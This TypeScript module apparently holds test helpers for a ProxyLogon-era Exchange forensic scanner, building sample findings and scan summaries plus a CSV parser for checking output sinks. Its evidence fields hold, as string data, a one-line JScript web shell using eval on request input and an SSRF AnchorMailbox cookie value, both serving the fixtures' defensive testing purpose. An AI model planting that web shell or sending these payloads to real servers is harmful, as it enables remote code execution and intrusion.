/**
 * @module Test helpers for sinks: findings and summaries shaped like what the engine produces on
 * a ProxyLogon-era Exchange server, so sink tests exercise realistic field names and values.
 * Not part of the public API.
 */
import type { Finding } from '../core/finding.js';
import { FINDING_SCHEMA_VERSION } from '../core/finding.js';
import type { Severity } from '../core/severity.js';
import { SEVERITIES } from '../core/severity.js';
import type { Coverage, HostReport, ScanSummary, Verdict } from '../core/summary.js';

/** Host name used by the builders unless overridden. */
export const HOST = 'EXCH01';
export const INPUT = '/cases/exch01-triage';

type Overrides = Partial<Omit<Finding, 'source' | 'evidence'>> & {
  readonly source?: Partial<Finding['source']>;
  readonly evidence?: Readonly<Record<string, string>>;
};

function finding(base: Finding, o: Overrides): Finding {
  return {
    ...base,
    ...o,
    source: { ...base.source, ...o.source },
    evidence: o.evidence ?? base.evidence,
  };
}

/** A CVE-2021-26855 SSRF request in the HttpProxy ECP log (the `ServerInfo~` AnchorMailbox cookie). */
export function ssrfFinding(o: Overrides = {}): Finding {
  return finding(
    {
      ruleId: 'Exchange.ProxyLogon.Ssrf',
      title: 'ProxyLogon SSRF: ServerInfo~ AnchorMailbox',
      description: 'A request was proxied to a back-end chosen by the X-AnonResource-Backend / X-BEResource cookie.',
      severity: 'high',
      outcome: 'attempted',
      stage: 'initial-access',
      cves: ['CVE-2021-26855'],
      attack: ['T1190'],
      references: [{ name: 'Microsoft HAFNIUM blog', url: 'https://www.microsoft.com/security/blog/2021/03/02/hafnium-targeting-exchange-servers/' }],
      time: '2021-03-03T04:05:06.789Z',
      clientIp: '86.105.18.116',
      source: { path: 'C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/HttpProxy_2021030304-1.LOG', line: 57, kind: 'httpproxy' },
      evidence: {
        DateTime: '2021-03-03T04:05:06.789Z',
        RequestId: 'f3b2c1d0-1111-4a2b-9c3d-5e6f7a8b9c0d',
        ClientIpAddress: '86.105.18.116',
        UrlHost: 'mail.contoso.com',
        UrlStem: '/ecp/y.js',
        RoutingHint: 'ServerInfo',
        UserAgent: 'ExchangeServicesClient/0.0.0.0',
        AnchorMailbox: 'ServerInfo~a]@exch01.contoso.com:444/mapi/emsmdb/?#',
        HttpStatus: '200',
        WindowsPath: 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\HttpProxy\\Ecp\\HttpProxy_2021030304-1.LOG',
      },
      report: 'Cve-2021-26855',
      schemaVersion: FINDING_SCHEMA_VERSION,
      host: HOST,
      input: INPUT,
    },
    o,
  );
}

/** A China Chopper style web shell planted in `aspnet_client` (whole-file finding, no line). */
export function webShellFinding(o: Overrides = {}): Finding {
  return finding(
    {
      ruleId: 'Exchange.Webshell.AspnetClient',
      title: 'ASPX file in aspnet_client',
      description: 'An .aspx file under inetpub\\wwwroot\\aspnet_client, where HAFNIUM planted web shells.',
      severity: 'critical',
      outcome: 'compromised',
      stage: 'persistence',
      cves: [],
      attack: ['T1505.003'],
      references: [{ name: 'Microsoft HAFNIUM blog' }],
      time: '2021-03-03T05:12:44.000Z',
      clientIp: null,
      source: { path: 'C/inetpub/wwwroot/aspnet_client/system_web/errorEE.aspx', line: null, kind: 'file' },
      evidence: {
        Type: 'WebShell',
        WindowsPath: 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorEE.aspx',
        Name: 'errorEE.aspx',
        Modified: '2021-03-03T05:12:44.000Z',
        Snippet: '<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>',
      },
      report: 'other',
      schemaVersion: FINDING_SCHEMA_VERSION,
      host: HOST,
      input: INPUT,
    },
    o,
  );
}

/** A CVE-2021-27065 Set-OabVirtualDirectory with a script tag in ExternalUrl, from the ECP server log. */
export function ecpVdirFinding(o: Overrides = {}): Finding {
  return finding(
    {
      ruleId: 'Exchange.ProxyLogon.SetVDirScript',
      title: 'Set-OabVirtualDirectory with a script in a URL',
      description: 'A virtual directory URL was set to contain code, the CVE-2021-27065 file-write step.',
      severity: 'critical',
      outcome: 'compromised',
      stage: 'exploitation',
      cves: ['CVE-2021-27065'],
      attack: ['T1190', 'T1505.003'],
      references: [{ name: 'Test-ProxyLogon.ps1', url: 'https://github.com/microsoft/CSS-Exchange' }],
      time: '2021-03-03T04:06:10.000Z',
      clientIp: null,
      source: { path: 'C/Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServer20210303-1.LOG', line: 12, kind: 'ecp' },
      evidence: {
        Cmd: 'Set-OabVirtualDirectory',
        ExternalUrl: 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["p"],"unsafe");}</script>',
        Identity: 'OAB (Default Web Site)',
        WindowsPath: 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\ECP\\Server\\ECPServer20210303-1.LOG',
      },
      report: 'Cve-2021-27065',
      schemaVersion: FINDING_SCHEMA_VERSION,
      host: HOST,
      input: INPUT,
    },
    o,
  );
}

/** Coverage of one log source; by default it reaches back before the window. */
export function coverage(source: string, o: Partial<Coverage> = {}): Coverage {
  return {
    source,
    kind: source.startsWith('HttpProxy') ? 'httpproxy' : source === 'ECP Server' ? 'ecp' : source === 'OAB Generator' ? 'oab' : 'iis',
    files: 30,
    bytes: 52_428_800,
    oldest: '2021-02-01T00:00:03.000Z',
    newest: '2021-03-10T23:59:58.000Z',
    days: 39,
    coversWindow: true,
    ...o,
  };
}

function countBySeverity(findings: readonly Finding[]): Record<Severity, number> {
  const out = Object.fromEntries(SEVERITIES.map((s) => [s, 0])) as Record<Severity, number>;
  for (const f of findings) out[f.severity] += 1;
  return out;
}

export function hostReport(findings: readonly Finding[], o: Partial<HostReport> = {}): HostReport {
  const host = o.host ?? HOST;
  const mine = findings.filter((f) => f.host === host);
  return {
    host,
    inputs: [INPUT],
    verdict: 'compromised',
    reason: 'web shell found',
    exchangeInstall: 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\',
    coverage: [coverage('HttpProxy/Ecp'), coverage('ECP Server'), coverage('OAB Generator')],
    findings: mine.length,
    bySeverity: countBySeverity(mine),
    ...o,
  };
}

const VERDICT_ORDER: readonly Verdict[] = ['clean', 'inconclusive', 'attempted', 'compromised'];

/** A summary consistent with `findings` (counts, per-rule totals, worst verdict). */
export function summaryFor(findings: readonly Finding[], o: Partial<ScanSummary> = {}): ScanSummary {
  const hosts = o.hosts ?? [hostReport(findings)];
  const byRule: Record<string, number> = {};
  for (const f of findings) byRule[f.ruleId] = (byRule[f.ruleId] ?? 0) + 1;
  const verdict = hosts.reduce<Verdict>((w, h) => (VERDICT_ORDER.indexOf(h.verdict) > VERDICT_ORDER.indexOf(w) ? h.verdict : w), 'clean');
  return {
    schemaVersion: 1,
    exhuntVersion: '0.1.0',
    startedAt: '2021-03-11T09:00:00.000Z',
    finishedAt: '2021-03-11T09:02:30.000Z',
    window: { since: '2021-01-01T00:00:00.000Z', until: null },
    verdict,
    hosts,
    findings: findings.length,
    bySeverity: countBySeverity(findings),
    byRule,
    files: 1234,
    bytes: 987_654_321,
    records: 4_567_890,
    rulesLoaded: 42,
    indicatorsLoaded: 0,
    diagnostics: [],
    ...o,
  };
}

/** Run info for `begin`. */
export const RUN = { startedAt: '2021-03-11T09:00:00.000Z', inputs: [INPUT], exhuntVersion: '0.1.0', rulesLoaded: 42 } as const;

/** A strict RFC 4180 reader for checking what the CSV sinks wrote (quotes, commas, line breaks). */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) throw new Error('CSV does not end with CRLF');
  return rows;
}
